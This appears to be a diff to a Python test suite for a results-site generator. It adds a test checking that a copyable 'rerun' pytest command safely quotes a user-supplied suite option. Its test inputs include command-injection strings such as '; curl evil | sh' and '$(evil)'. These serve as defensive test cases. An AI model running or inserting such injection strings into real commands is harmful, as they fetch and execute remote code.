@@ -5,10 +5,12 @@ import hashlib
 import json
 import os
 import re
+import shlex
 import subprocess
 import sys
 from collections import Counter
 from collections.abc import Callable, Iterable
+from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 from urllib.parse import unquote, urlsplit
@@ -491,6 +493,23 @@ def test_pages_without_escaping_are_caught(small: Path, tmp_path: Path, monkeypa
     monkeypatch.setattr(site, "_environment", unsafe)
     build(small.parent.parent, tmp_path / "site")
     assert "models/digits-vit.html" in unescaped(tmp_path / "site")
+
+
+@pytest.mark.parametrize(
+    ("option", "words"),
+    [
+        ("--model 'a b' --id ./val", ["--model", "a b", "--id", "./val"]),
+        ("my suite.toml", ["--suite", "my suite.toml"]),
+        ("--suite x; curl evil | sh #", ["--suite", "x;", "curl", "evil", "|", "sh", "#"]),
+        ("--suite $(evil) 'x", ["--suite $(evil) 'x"]),
+    ],
+)
+def test_a_command_to_copy_runs_nothing_else(small: Path, option: str, words: list[str]) -> None:
+    result = next(iter(read_results(small.parent.parent).suites[0].results.values()))
+    hostile = replace(result, run=result.run.model_copy(update={"suite_option": option}))
+    command = shlex.shlex(view.rerun_command(hostile), posix=True, punctuation_chars=True)
+    command.whitespace_split = True
+    assert list(command)[:-1] == ["pytest", *words]
 
 
 def unescaped(folder: Path) -> list[str]:
